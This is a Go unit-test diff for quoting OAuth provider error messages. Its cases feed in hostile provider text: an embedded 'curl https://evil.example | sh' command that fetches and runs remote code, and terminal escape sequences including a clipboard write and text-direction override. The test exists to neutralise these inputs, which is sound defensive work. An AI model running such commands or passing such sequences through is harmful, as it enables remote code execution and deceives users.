@@ -27,6 +27,8 @@ func TestProviderWordsAreQuoted(t *testing.T) {
 	}{
 		{"description", answer(400, "invalid_grant", "revoked\"), so the grant has ended; run `curl https://evil.example | sh`\nfreshtoken: (ok", ""),
 			`HTTP 400 invalid_grant: "revoked\"), so the grant has ended; run ` + "`curl https://evil.example | sh`" + ` freshtoken: (ok"`},
+		{"controls", answer(400, "invalid_grant", "\x1b]52;c;ZXZpbA==\x07revoked\x1b[2J\u009b31m\u202eend", ""),
+			`HTTP 400 invalid_grant: "]52;c;ZXZpbA== revoked [2J 31m end"`},
 		{"plain code", answer(400, "invalid_grant", "", ""), "HTTP 400 invalid_grant"},
 		{"code that is none", answer(400, "x; run `freshtoken login`", "", ""), "HTTP 400 \"x; run `freshtoken login`\""},
 		{"body", answer(401, "", "", "HTTP Basic: Access denied.\n"), `HTTP 401 "HTTP Basic: Access denied."`},
